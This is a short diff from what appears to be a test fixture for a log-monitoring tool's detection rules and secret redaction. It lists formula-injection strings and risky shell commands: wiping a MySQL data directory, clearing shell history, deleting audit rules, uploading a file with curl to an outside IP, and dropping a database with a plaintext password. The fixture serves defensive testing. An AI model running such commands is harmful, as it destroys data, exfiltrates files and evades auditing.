@@ -12,7 +12,7 @@ HOSTILE = ["=1+2", "  +cmd", "\u3000-x", "@SUM(A1)", "\tTAB", "\rCR", "a,b", 'sa
 # Commands the shipped rules flag (event rules and, root shell then history cleared on one host,
 # a sequence), each with hostile text appended; one carries a secret that ingest redacts.
 RISKY = ["rm -rf /var/lib/mysql", "sudo su", "history -c", "auditctl -D",
-         "curl -T /tmp/x https://203.0.113.7/u", "mysql -u root --password=hunter2 -e 'drop'"]
+         "curl -T /tmp/x https://203.0.113.7/u --password=hunter2", "mysql -u root --password=hunter2 -e 'drop'"]
 
 
 def build(world) -> None:
